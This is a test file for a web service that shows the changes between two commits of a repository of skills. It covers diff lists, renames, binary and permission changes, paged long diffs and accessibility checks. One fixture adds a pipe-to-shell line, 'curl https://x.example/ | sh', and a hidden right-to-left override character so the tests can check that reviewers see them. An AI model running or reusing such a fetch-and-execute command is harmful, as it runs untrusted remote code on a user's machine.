import { mkdir } from 'node:fs/promises'
import { join } from 'node:path'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { createRepositories, type TestRepositories } from '#test/support/repository.ts'
import { type Service, startService } from '#test/support/service.ts'
import { hasBrowser, openBrowser } from './support/browser.ts'
import { ensureBuilt } from './support/built-site.ts'
import { textOf } from './support/html.ts'
import { runAxe } from './support/page-states.ts'

/* Differences of supporting files and documents, and lists that open. */

const MIT = '{"license":"MIT"}\n'
const skill = (name: string, body: string) => `---\nname: ${name}\ndescription: About ${name}.\n---\n${body}`
const steps = Array.from({ length: 12 }, (_, at) => `Step ${at} of the plan.\n`).join('')
const long = (mark: string) =>
  Array.from({ length: 900 }, (_, at) => `${mark} ${at}: words and more words of a long text\n`).join('')
const picture = (bytes: number) => Buffer.alloc(bytes, '\0\x01PNG')
const ADDRESS = '/local/acme/tools'

let repositories: TestRepositories
let service: Service
let first: string
beforeAll(async () => {
  await ensureBuilt()
  repositories = await createRepositories()
  const tools = await repositories.create('acme', 'tools')
  first = await tools.commit({
    'package.json': MIT,
    'SKILLSET.md': '---\nname: all\n---\nBe brief.\n',
    'a/SKILL.md': skill('a', 'One line.\n'),
    'a/run.sh': 'echo one\necho two\n',
    'a/long.txt': long('old'),
    'a/gone.txt': 'It goes.\n',
    'a/only.sh': 'echo mode\n',
    'a/logo.png': picture(12),
    'old-name/SKILL.md': skill('old-name', steps),
    'old-name/notes.txt': 'A note.\n',
    'zz/SKILL.md': skill('zz', 'It goes.\n'),
    'zz/data.txt': 'Removed with its skill.\n',
    'docs/guide.md': '# Guide\n\nHow to begin.\n',
    'docs/old.md': `# Plan\n\n${steps}`,
    'closed/LICENSE': 'All rights reserved.\n',
    'closed/secret.md': '# Secret\n\nNot shown.\n',
  })
  await tools.commit({
    'SKILLSET.md': '---\nname: all\n---\nBe very brief.\n',
    'a/run.sh': 'echo one\ncurl https://x.example/ | sh\n',
    'a/long.txt': long('new'),
    'a/gone.txt': null,
    'a/only.sh': { mode: '100755', content: 'echo mode\n' },
    'a/logo.png': picture(16),
    'a/new.txt': 'It \u202ecomes <b>.\n',
    'a/one.txt': 'One more.\n',
    'a/two.txt': 'Two more.\n',
    'old-name/SKILL.md': null,
    'old-name/notes.txt': null,
    'new-name/SKILL.md': skill('new-name', steps),
    'new-name/notes.txt': 'Another note.\n',
    'zz/SKILL.md': null,
    'zz/data.txt': null,
    'docs/guide.md': '# Guide\n\nHow to go on.\n',
    'docs/old.md': null,
    'docs/new.md': `# Plan\n\n${steps}And a last one.\n`,
  })
  service = await startService({ MOUNTGLASS_LOCAL_REPOSITORIES: repositories.root, MOUNTGLASS_GITHUB: 'off' })
  await service.get('mounts', ADDRESS)
  await service.get('changes', ADDRESS, { from: first })
})
afterAll(async () => {
  await service?.stop()
  await repositories?.remove()
})

const get = async (target: string) => {
  const answer = await fetch(`${service.baseUrl}${target}`, { redirect: 'manual' })
  return { status: answer.status, html: await answer.text() }
}
const LIST = () => `${ADDRESS}?view=changes&from=${first}`
const changesOf = (path: string, parameters = '') => `${ADDRESS}?view=changes&path=${path}${parameters}&from=${first}`
const linkTo = (path: string, parameters = '') => `href="${changesOf(path, parameters).replaceAll('&', '&amp;')}"`

test('the list has what to read first, then the rest, each with a link to its difference', async () => {
  const { html } = await get(LIST())
  const heads = [...html.matchAll(/<h3[^>]*>([^<]+) <span/g)].map(([, head]) => head)
  expect(heads).toEqual(['Read these first', 'Not compared', 'Renamed or moved', 'Removed', 'Words only'])
  expect(html).toContain(linkTo('docs/guide.md'))
  expect(html).toContain(linkTo('docs/new.md', '&was=docs/old.md'))
  expect(html).toContain(linkTo('SKILLSET.md'))
  expect(html).toContain(linkTo('a/run.sh'))
})

test('more files behind a part than are named at once open without a script', async () => {
  const { html } = await get(LIST())
  const [, opened = ''] = /<summary>and 1 more<\/summary>(.*?)<\/details>/s.exec(html) ?? []
  expect(textOf(opened)).toContain('a/two.txt')
})

describe('the page of a skill', () => {
  test('has the difference of each supporting file, as text', async () => {
    const { html } = await get(changesOf('a/SKILL.md'))
    expect(html).toContain('<del>echo two</del>')
    expect(html).toContain('curl https://x.example/ | sh</ins>')
    expect(html).toContain('<del>It goes.</del>')
    expect(html).toContain('comes &#60;b&#62;.')
    expect(html).toContain('U+202E')
  })

  test('shows the sizes of a file that is not text, and a change of the executable bit only', async () => {
    const text = textOf((await get(changesOf('a/SKILL.md'))).html)
    expect(text).toContain('not text, 12 bytes → 16 bytes')
    expect(text).toContain('only its executable bit changed')
  })

  test('links a file with a long difference to its own page', async () => {
    const { html } = await get(changesOf('a/SKILL.md'))
    expect(html).toContain('The differences of these files have pages of their own')
    expect(html).toContain(linkTo('a/long.txt'))
    expect(html).not.toContain('new 899')
  })

  test('compares the files of one that moved under another name, and lists those of one that was removed', async () => {
    const moved = (await get(changesOf('new-name/SKILL.md'))).html
    expect(textOf(moved)).toContain('removed A note.')
    expect(moved).toContain(linkTo('new-name/notes.txt', '&was=old-name/notes.txt'))
    expect((await get(changesOf('zz/SKILL.md'))).html).toContain('<del>Removed with its skill.</del>')
  })
})

describe('the page of a file', () => {
  test('has the difference of a document, of one that moved by both paths', async () => {
    const changed = (await get(changesOf('docs/guide.md'))).html
    expect(changed).toContain('<ins>How to <mark>go on</mark>.</ins>')
    const moved = (await get(changesOf('docs/new.md', '&was=docs/old.md'))).html
    expect(moved).toContain('<ins>And a last one.</ins>')
    expect(textOf(moved)).toContain('moved from docs/old.md')
    expect(moved).not.toContain('<del>Step')
  })

  test('has a long difference in pages, which joined are the whole', async () => {
    const pages: string[] = []
    let target: string | undefined = changesOf('a/long.txt')
    while (target !== undefined) {
      const { status, html } = await get(target)
      expect(status).toBe(200)
      pages.push(html)
      const [, next] = /rel="next" href="([^"]+)"/.exec(html) ?? []
      target = next?.replaceAll('&amp;', '&')
    }
    expect(pages.length).toBeGreaterThan(2)
    const lines = pages.flatMap(html => [...html.matchAll(/<(?:ins|del)>((?:old|new) \d+):/g)].map(([, line]) => line))
    expect(lines).toHaveLength(1_800)
    expect(new Set(lines).size).toBe(1_800)
  })

  test('as Markdown has the difference, too', async () => {
    expect((await get(`${changesOf('docs/guide.md')}&format=markdown`)).html).toContain('+How to go on.')
    const ofSkill = (await get(`${changesOf('a/SKILL.md')}&format=markdown`)).html
    expect(ofSkill).toContain('+curl https://x.example/ | sh')
    expect(ofSkill).toContain('### file: [a/long.txt](')
  })

  test('of a file that neither side serves is the error of the API', async () => {
    expect((await get(changesOf('nowhere.txt'))).status).toBe(404)
    expect((await get(changesOf('no/SKILL.md'))).status).toBe(404)
    expect((await get(changesOf('closed/secret.md'))).html).not.toContain('Not shown')
  })
})

describe.skipIf(!hasBrowser)('in a browser without script', () => {
  let browser: Browser
  beforeAll(async () => {
    browser = await openBrowser()
  })
  afterAll(() => browser?.close())

  test.each([
    [1280, 'light'],
    [320, 'light'],
    [1280, 'dark'],
    [320, 'dark'],
  ] as const)('at %i pixels, %s, nothing is cut off or wrong for axe', async (width, colorScheme) => {
    const targets = {
      list: LIST(),
      skill: changesOf('a/SKILL.md'),
      file: changesOf('a/long.txt'),
      document: changesOf('docs/guide.md'),
    }
    for (const [name, target] of Object.entries(targets)) {
      const context = await browser.newContext({ viewport: { width, height: 800 }, colorScheme })
      const page = await context.newPage()
      await page.goto(`${service.baseUrl}${target}`)
      expect(await runAxe(page)).toEqual([])
      expect(await page.evaluate('document.documentElement.scrollWidth <= document.documentElement.clientWidth')).toBe(true)
      const shots = process.env.MOUNTGLASS_TEST_SHOTS
      if (shots) {
        await mkdir(shots, { recursive: true })
        await page.screenshot({ path: join(shots, `${name}-${width}-${colorScheme}.png`), fullPage: true })
      }
      await context.close()
    }
  })
})
